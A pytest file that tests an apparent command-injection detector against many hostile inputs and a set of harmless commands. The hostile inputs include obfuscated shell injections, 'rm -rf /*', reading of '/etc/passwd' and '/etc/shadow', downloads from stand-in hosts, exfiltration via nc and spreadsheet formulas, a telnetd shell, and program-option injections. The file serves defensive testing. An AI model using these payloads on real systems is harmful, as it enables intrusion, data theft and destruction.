"""Commands that hide, that go on from an honest value, that are options or formulas; scripts of honest people."""

import pytest
from asking import asking

from seawall.systems.threats.detectors.command import DETECTOR
from seawall.systems.threats.detectors.shell_context import is_blob, is_script, is_value
from seawall.systems.threats.detectors.shell_lexer import reveal
from seawall.systems.threats.detectors.shell_words import quality

ask = asking(DETECTOR)

ATTACKS = (
    # Commands that run commands, and words of the shell itself.
    "x;time whoami",
    "x;timeout 3 id",
    "x;trap 'id' EXIT",
    "x;nice -n 5 id",
    "x;builtin echo y",
    "x;alias q=id;q",
    "x;declare -p",
    ";export",
    "|set",
    "; exit 1;",
    ";$SHELL -c whoami",
    ";(q=(id);${q[0]})",
    # Values of variables that the text sets itself.
    ";u=who;v=ami;$u$v",
    ";q=ca;${q}t /etc/hosts",
    # Escapes and wildcards within a word.
    ";w\\\nhoami",
    ";who$'ami'",
    ";/usr/bin/[h-j]d",
    "powershell i`e`x x",
    # Expansions with a command in braces.
    "a${netstat -an}b",
    "${wget http://x.example/q}",
    # What waits, knocks, or lives off the land.
    "& choice /c y /t 9 /d y &",
    "& waitfor q /t 9",
    "; ftpget -u anonymous 10.9.8.7 q q",
    "& forfiles /p c:\\windows /c calc",
    "|telnetd -p 99 -l /bin/sh",
    "report.pdf;pkill nginx #",
    "cmd,/c,dir",
    "%windir:~0,1%",
    # Piped into a shell, whatever it says.
    "1|echo qqq|rev|sh",
    "x && echo aWQ= | tr a a | bash #",
    # Static methods of .NET.
    ";[System.IO.File]::ReadAllText('c:\\x')",
    "[Net.WebClient]::new().DownloadString('http://x')",
    # Functions smuggled in the environment.
    "() { _; } >_[$($())] { id; }",
    "() { echo q; }",
    # Calls of Perl and server-side includes of caches.
    'open(Q,"whoami|")',
    "<esi:include src='http://x.example/'/>",
    # Options of programs.
    "ssh://-oProxyCommand=whoami/x",
    "--checkpoint=1 --checkpoint-action=exec=whoami",
    "-c core.pager=whoami",
    "-c diff.external=id",
    "-javaagent:/tmp/q.jar",
    "-XX:OnError=id",
    "--renderer-cmd-prefix=xterm",
    "--unsafe-perm -g",
    "-dSAFER=false -sOutputFile=%pipe%whoami",
    "-T /etc/shadow http://x.example",
    "--data=@/etc/passwd",
    "me@x.example -OQueueDirectory=/tmp -X/var/www/q.php",
    # Formulas, and drawings that name programs.
    "=cmd|'/c notepad'!A1",
    '@DDE("cmd";"/c calc")',
    '=IMPORTDATA("http://x.example/?"&A1)',
    "push graphic-context\nfill 'url(https://x.example/\"|id\")'\npop graphic-context",
    # What reaches beyond what honest commands do, as all of a value.
    "find / -perm -u=s",
    "chmod 4777 /tmp/q",
    "rm -rf /*",
    "net user",
    "reg query HKLM\\SAM",
    "kill -9 -1",
    "awk 'BEGIN{system(\"id\")}'",
    "curl http://10.9.8.7/q.sh",
    "bash -i",
    "python3 -c 'import os;os.system(1)'",
)
HONEST = (
    # Whole commands and scripts, as builds, tickets, editors and logs have them.
    "npm install --save left-pad && npm run build",
    "npm ci; node server.js",
    "pip install -r requirements.txt && python manage.py migrate",
    "docker run -d -p 8080:80 --name web nginx:latest",
    'git commit -m "Fix the date; and more" && git push',
    "cd /srv/app && ls -la",
    "$ cd build && make install",
    "user@host:~$ tail -f /var/log/nginx/error.log | grep 500",
    "cat names.txt | sort | uniq -c | head",
    'for f in *.txt; do echo "$f"; done',
    "#!/bin/sh\nset -e\ncp -r src dist\nrm -rf build\nls -la dist\n",
    "export PATH=$PATH:/usr/local/bin; echo $HOME",
    "kubectl get pods -n web | grep Error",
    "ssh deploy@www.example.com 'systemctl restart web'",
    "curl -X POST https://api.example.com/v1 -H 'Content-Type: application/json' -d '{\"a\": 1}'",
    "wget https://example.com/app.tar.gz -O - | tar xz",
    "chmod +x run.sh; ./run.sh > out.log 2>&1 &",
    "find . -name '*.pyc' -exec rm {} \\;",
    "PS C:\\> Get-ChildItem -Path C:\\work | Where-Object { $_.Length -gt 1MB }",
    "ipconfig /flushdns && ipconfig /all",
    "RUN apt-get update && apt-get install -y curl",
    "$(date +%F) `hostname`",
    "<pre>cd /srv && ls -la</pre>",
    "vite build && cp -r public dist",
    "subprocess.run(['ls', '-la'], check=True)",
    "os.system(command)",
    "+npm test && ls -la",
    # Prose and tables that have words of commands in them.
    "Who is it?\nfind out more - e.g. at the desk",
    "Print the contract by Friday\nScript error: set a password",
    "Sleep 10' x 12'",
    "Echo -> stage left",
    "name & set group/report",
    "a < b && file < 80",
    "https://example.com/?a=1&print=yes&echo=off",
    "date | time | host\n1 | 2 | 3",
    "qx/rgImJckObz",
    "/users/${id}.json",
    "=SUM(A1:B2)",
    '=HYPERLINK("https://example.com","x")',
    "-5 degrees",
    "<b>this & more</b> to come",
    "--help",
    "--output=json",
    "delete(id);",
    "| which /* sic */ one",
    "& echo's of users'",
    "|Fetch run $40",
    "; w^+KR$v4*f(E",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_runs_a_command_is_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize(
    "text", ['=IMPORTRANGE("https://docs.example/d/1","A1:B2")', '=HYPERLINK("https://x.example/?id="&A2,"open")']
)
def test_a_formula_that_fetches_or_links_is_only_tagged(text):
    assert ask(text)[1] == 0.6


@pytest.mark.parametrize("text", HONEST)
def test_honest_scripts_and_texts_are_not_acted_upon(text):
    assert ask(text)[1] <= 0.55


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("-c core.pager=whoami", "command-option"),
        ("=cmd|'/c notepad'!A1", "command-formula"),
        ("%pipe%id", "command-converter"),
        ("push graphic-context\nfill 'url(x)'", "command-converter"),
        (";u=who;v=ami;$u$v", "command-hidden"),
        ("[Net.WebClient]::new().Get('x')", "command-dotnet"),
    ],
)
def test_each_form_has_a_rule(text, rule):
    assert ask(text)[0] == rule


@pytest.mark.parametrize("text", ["npm ci ", "$ git pull ", "cd /srv ", "FOO=1 make all ", "tsc ", "mytool --fast x "])
def test_what_goes_before_a_script_goes_on_is_a_command_line(text):
    assert is_script(text)


@pytest.mark.parametrize("text", ["127.0.0.1 ", "report.pdf", "test ", "a name ", "ping", "x@y.example"])
def test_what_goes_before_an_attack_is_none(text):
    assert not is_script(text)
    assert is_value(text)


def test_a_variable_is_worth_what_the_text_sets_it_to():
    assert reveal("a=c;b=at;$a$b x")[0] == "a=c;b=at;cat x"


def test_variables_do_not_make_a_text_grow_without_bound():
    text = "a=" + "x" * 60 + ";" + "$a" * 4000
    assert len(reveal(text)[0]) < 2 * len(text)


def test_bytes_at_random_are_no_commands():
    blob = "xK9|s3;O7/M*Enk#gWSLC&xKw|1eHs)-Q6J5Vynks=^eW5^9{mNa,mGF*&M"
    assert is_blob(blob, 20)
    assert not is_blob("name; cat /etc/passwd | nc 10.9.8.7 4444", 4)


@pytest.mark.parametrize(
    ("word", "arguments", "rating"),
    [
        ("cat", "", 0),
        ("cat", " food", 1),
        ("cat", " notes.txt", 2),
        ("cat", " /etc/passwd", 3),
        ("curl", " https://x.example", 2),
    ],
)
def test_arguments_are_rated_by_what_they_reach_for(word, arguments, rating):
    assert quality(word, arguments) == rating
